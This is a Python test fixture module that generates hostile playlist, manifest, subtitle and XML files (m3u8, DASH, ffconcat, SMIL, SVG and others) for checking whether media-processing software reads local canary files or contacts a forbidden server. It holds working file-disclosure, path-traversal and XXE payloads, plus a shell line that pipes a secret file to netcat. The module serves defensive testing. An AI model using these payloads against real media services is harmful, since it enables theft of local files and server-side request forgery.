"""Files that are no media but tell a player to open something else: a file, a pattern, a device or a server."""

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TypeAlias

from tests.hostile.boxes import with_external_data

Script: TypeAlias = Callable[[Path, str], str]
"""The text, given the canary's folder and the forbidden service's host:port."""

Make: TypeAlias = Callable[[Path, Path, str], bytes]
"""The bytes of a file, given the corpus, the canary's folder and the service."""


def _playlist(*lines: str) -> str:
    return "\n".join(["#EXTM3U", "#EXT-X-VERSION:4", "#EXT-X-TARGETDURATION:2", *lines, "#EXT-X-ENDLIST", ""])


def _dash(base: str, media: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"'
        f' profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><BaseURL>{base}</BaseURL><AdaptationSet'
        ' contentType="audio" mimeType="audio/mp4"><Representation id="1" codecs="mp4a.40.2" bandwidth="1">'
        f"<BaseURL>{media}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )


_SDP = "v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=audio {port} RTP/AVP 0\n"
_SMIL = '<smil><body><audio src="http://{service}/a.mp3"/></body></smil>'
_ASX = '<asx version="3.0"><entry><ref href="http://{service}/a.mp3"/></entry></asx>'
_PLS = "[playlist]\nFile1=http://{service}/a.mp3\nNumberOfEntries=1\n"
_XSPF = '<playlist version="1"><trackList><track><location>http://{service}/a</location></track></trackList></playlist>'
_SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="file://{canary}/img001.png"/></svg>'
_XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file://{canary}/secret.srt">]><MPD>&y;</MPD>'
_KEY = '#EXT-X-KEY:METHOD=AES-128,URI="{where}"'
_MAP = '#EXT-X-MAP:URI="{canary}/secret.mp4"'

SCRIPTS: dict[str, Script] = {
    "m3u8 of a path": lambda canary, _: _playlist("#EXTINF:1,", f"{canary}/secret.ts"),
    "m3u8 of a file URL": lambda canary, _: _playlist("#EXTINF:1,", f"file://{canary}/secret.ts"),
    "m3u8 of a file: path": lambda canary, _: _playlist("#EXTINF:1,", f"file:{canary}/secret.mp3"),
    "m3u8 of a relative path": lambda canary, _: _playlist("#EXTINF:1,", f"../../../../..{canary}/secret.ts"),
    "m3u8 of a server": lambda _, service: _playlist("#EXTINF:1,", f"http://{service}/a.ts"),
    "m3u8 of raw TCP": lambda _, service: _playlist("#EXTINF:1,", f"tcp://{service}"),
    "m3u8 of an init section": lambda canary, _: _playlist(_MAP.format(canary=canary), "#EXTINF:1,", "a.mp4"),
    "m3u8 of a key file": lambda canary, _: _playlist(_KEY.format(where=f"{canary}/secret.srt"), "#EXTINF:1,", "a.ts"),
    "m3u8 of a key server": lambda _, service: _playlist(_KEY.format(where=f"http://{service}/"), "#EXTINF:1,", "a.ts"),
    "m3u8 of concat:": lambda canary, _: _playlist("#EXTINF:1,", f"concat:{canary}/secret.ts|{canary}/secret.mp3"),
    "m3u8 of subfile:": lambda canary, _: _playlist("#EXTINF:1,", f"subfile,,start,0,end,9,,:{canary}/secret.ts"),
    "m3u8 of crypto+file": lambda canary, _: _playlist("#EXTINF:1,", f"crypto+file://{canary}/secret.ts"),
    "m3u8 of data:": lambda _, __: _playlist("#EXTINF:1,", "data:audio/mpeg;base64,SUQzBAAAAAAAAA=="),
    "m3u8 of m3u8s": lambda canary, _: f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{canary}/secret.ts\n",
    "m3u8 after an ID3 tag": lambda canary, _: "ID3\x04\0\0\0\0\0\0" + _playlist("#EXTINF:1,", f"{canary}/secret.ts"),
    "m3u8 without end": lambda canary, _: f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{canary}/secret.ts\n",
    "plain m3u": lambda canary, _: f"{canary}/secret.mp3\n",
    "ffconcat of a path": lambda canary, _: f"ffconcat version 1.0\nfile '{canary}/secret.mp3'\n",
    "ffconcat of a file URL": lambda canary, _: f"ffconcat version 1.0\nfile 'file://{canary}/secret.mp3'\n",
    "ffconcat with options": lambda canary, _: f"ffconcat version 1.0\nfile {canary}/secret.wav\noption safe 0\n",
    "ffconcat of itself": lambda _, __: "ffconcat version 1.0\n" + "file 'source'\n" * 1000,
    "ffconcat of a device": lambda _, __: "ffconcat version 1.0\nfile '/dev/zero'\noption format s16le\n",
    "ffconcat of a server": lambda _, service: f"ffconcat version 1.0\nfile 'http://{service}/a.mp3'\n",
    "DASH of a file URL": lambda canary, _: _dash(f"file://{canary}/", "secret.mp4"),
    "DASH of a path": lambda canary, _: _dash(f"{canary}/", "secret.mp4"),
    "DASH of a server": lambda _, service: _dash(f"http://{service}/", "a.mp4"),
    "XML with an external entity": lambda canary, _: _XXE.format(canary=canary),
    "SDP": lambda _, service: _SDP.format(host=service.split(":")[0], port=service.split(":")[1]),
    "RTSP redirect": lambda _, service: f"rtsptext\nrtsp://{service}/a\n",
    "SMIL": lambda _, service: _SMIL.format(service=service),
    "ASX": lambda _, service: _ASX.format(service=service),
    "PLS": lambda _, service: _PLS.format(service=service),
    "XSPF": lambda _, service: _XSPF.format(service=service),
    "SVG with an image": lambda canary, _: _SVG.format(canary=canary),
    "image pattern": lambda canary, _: f"{canary}/img%03d.png",
    "image glob": lambda canary, _: f"glob:{canary}/*.png",
    "subtitles with a source": lambda canary, _: f"[Script Info]\nAudio File: {canary}/secret.wav\n[Events]\n",
    "subtitles of a server": lambda _, service: f"WEBVTT\n\n00:00.000 --> 00:01.000\n<img src=http://{service}/>\n",
    "VobSub index": lambda _, __: "# VobSub index file, v7\nsize: 720x576\nid: en, index: 0\n",
    "lavfi graph": lambda canary, _: f"amovie={canary}/secret.mp3",
    "ffmetadata": lambda canary, _: f";FFMETADATA1\ntitle=file:{canary}/secret.srt\n",
    "MLT project": lambda canary, _: f"<mlt><producer><property>{canary}/secret.mp3</property></producer></mlt>",
    "a shell script": lambda canary, service: f"#!/bin/sh\ncat {canary}/secret.srt | nc {service}\n",
}


def scripts() -> Iterator[tuple[str, Make]]:
    """By title."""
    for name, script in SCRIPTS.items():
        yield name, _text_of(script)
    yield "mov with external data (alis)", lambda corpus, canary, _: with_external_data(corpus, canary / "secret.wav")
    yield "mov with external data (url)", lambda corpus, _, at: with_external_data(corpus, f"http://{at}/a.mp3")


def _text_of(script: Script) -> Make:
    return lambda _, canary, service: script(canary, service).encode("latin-1")
